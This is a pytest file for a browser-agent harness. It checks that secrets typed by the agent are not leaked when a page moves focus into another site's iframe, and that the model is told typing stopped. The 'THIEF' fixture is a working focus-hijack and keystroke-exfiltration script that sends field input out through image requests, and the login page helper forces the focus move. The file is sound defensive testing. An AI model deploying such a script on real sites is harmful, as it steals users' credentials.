"""A secret goes into the field it was checked for, in that field's frame, and nowhere else: a
page that moves the focus into another site's frame (an out-of-process frame on localhost)
while the harness types gets none of it, and the model is told typing stopped."""

from __future__ import annotations

import pytest

from tests.support.servers import two_origins
from webfovea.config import make_config
from webfovea.harness import Harness

pytestmark = pytest.mark.asyncio(loop_scope="session")

VALUE = "Kp7-orchid-41-mist"  # 18 characters
# The other site's frame: its field takes the focus it is given and reports every character.
THIEF = """<!doctype html><body><input id=steal>
<script>const s = document.getElementById('steal'); s.focus();
addEventListener('focus', () => s.focus());
s.addEventListener('input', () => { new Image().src = '/got?v=' + encodeURIComponent(s.value); });
</script></body>"""


def page(frame_url: str, trigger: str) -> str:
    """The login page: when `trigger` fires on its field, it moves the focus into the frame."""
    return f"""<!doctype html><html><body style="margin:0">
<input id=phrase style="position:absolute;left:100px;top:200px;width:400px;height:40px;font-size:24px">
<iframe src="{frame_url}" style="position:absolute;left:100px;top:300px;width:400px;height:80px"></iframe>
<script>const f = document.querySelector('iframe'), p = document.getElementById('phrase');
p.addEventListener('{trigger}', (e) => {{ if (e.inputType !== 'deleteContentBackward'
  && e.inputType !== 'deleteContentForward') f.focus(); }});
</script></body></html>"""


async def _harness(session, url: str, origin: str) -> Harness:  # noqa: ANN001
    secrets = {"phrase": {"value": VALUE, "origins": [origin]}}
    h = await Harness.on_page(await session.fresh_page(), make_config(secrets=secrets))
    await h.goto(url)
    await h.page.frame_locator("iframe").locator("#steal").wait_for()
    await h.observe()
    return h


def _fill(h: Harness, css: tuple[float, float], content: str) -> str:
    assert h.last is not None
    s = h.last.image.width / h.last.shot.css_width
    return (
        f"Thought: t\nAction: fill(start_box='<|box_start|>({css[0] * s:.0f},{css[1] * s:.0f})<|box_end|>', "
        f"content='{content}')"
    )


@pytest.mark.parametrize("trigger", ["keydown", "beforeinput", "input", "focus"])
async def test_focus_moved_into_another_sites_frame_gets_nothing(session, trigger: str) -> None:
    main: dict[str, str | bytes] = {}
    with two_origins(main, {"/": THIEF}) as (a, b):
        main["/"] = page(b.url("/", host="localhost"), trigger)
        h = await _harness(session, a.url("/"), a.url(""))
        res = await h.step(_fill(h, (300, 220), "<secret>phrase</secret>"))
        stolen = await h.page.frame_locator("iframe").locator("#steal").input_value()
        assert stolen == "" and not any(p.startswith("/got") for p in b.log), (stolen, b.log)
        assert VALUE not in (res.feedback or "")
        typed = await h.page.input_value("#phrase")
        # Either the field took the whole value while it held the focus, or typing stopped and
        # the model was told the focus moved.
        assert typed == VALUE or "the focus left the field" in (res.feedback or ""), (typed, res.feedback)


async def test_type_stops_when_the_focus_moves_before_the_secret(session) -> None:
    main: dict[str, str | bytes] = {}
    with two_origins(main, {"/": THIEF}) as (a, b):
        main["/"] = page(b.url("/", host="localhost"), "keydown")
        h = await _harness(session, a.url("/"), a.url(""))
        await h.page.focus("#phrase")
        await h.observe()
        res = await h.step("Thought: t\nAction: type(content='ab<secret>phrase</secret>')")
        stolen = await h.page.frame_locator("iframe").locator("#steal").input_value()
        assert VALUE not in stolen and not any(VALUE[:3] in p for p in b.log), (stolen, b.log)
        assert "the focus left the field" in (res.feedback or ""), res.feedback


LOGIN = """<!doctype html><body style="margin:0">
<input id=pw type=password style="position:absolute;left:100px;top:200px;width:400px;height:40px">
<div id=ce contenteditable style="position:absolute;left:100px;top:300px;width:400px;height:40px"></div>
<script>let keys = 0; document.getElementById('pw').addEventListener('input', () => { keys += 1; });</script>
</body>"""


async def test_a_password_field_and_an_editable_element_take_the_whole_value(session) -> None:
    main: dict[str, str | bytes] = {"/": LOGIN}
    with two_origins(main, {"/": THIEF}) as (a, _):
        secrets = {"phrase": {"value": VALUE, "origins": [a.url("")]}}
        h = await Harness.on_page(await session.fresh_page(), make_config(secrets=secrets))
        await h.goto(a.url("/"))
        await h.observe()
        res = await h.step(_fill(h, (300, 220), "<secret>phrase</secret>"))
        assert await h.page.input_value("#pw") == VALUE, res.feedback
        assert "<secret>phrase</secret>" in (res.feedback or "") and await h.page.evaluate("keys") >= 1
        await h.observe()
        res = await h.step(_fill(h, (300, 320), "code <secret>phrase</secret>!"))
        assert await h.page.inner_text("#ce") == f"code {VALUE}!", res.feedback
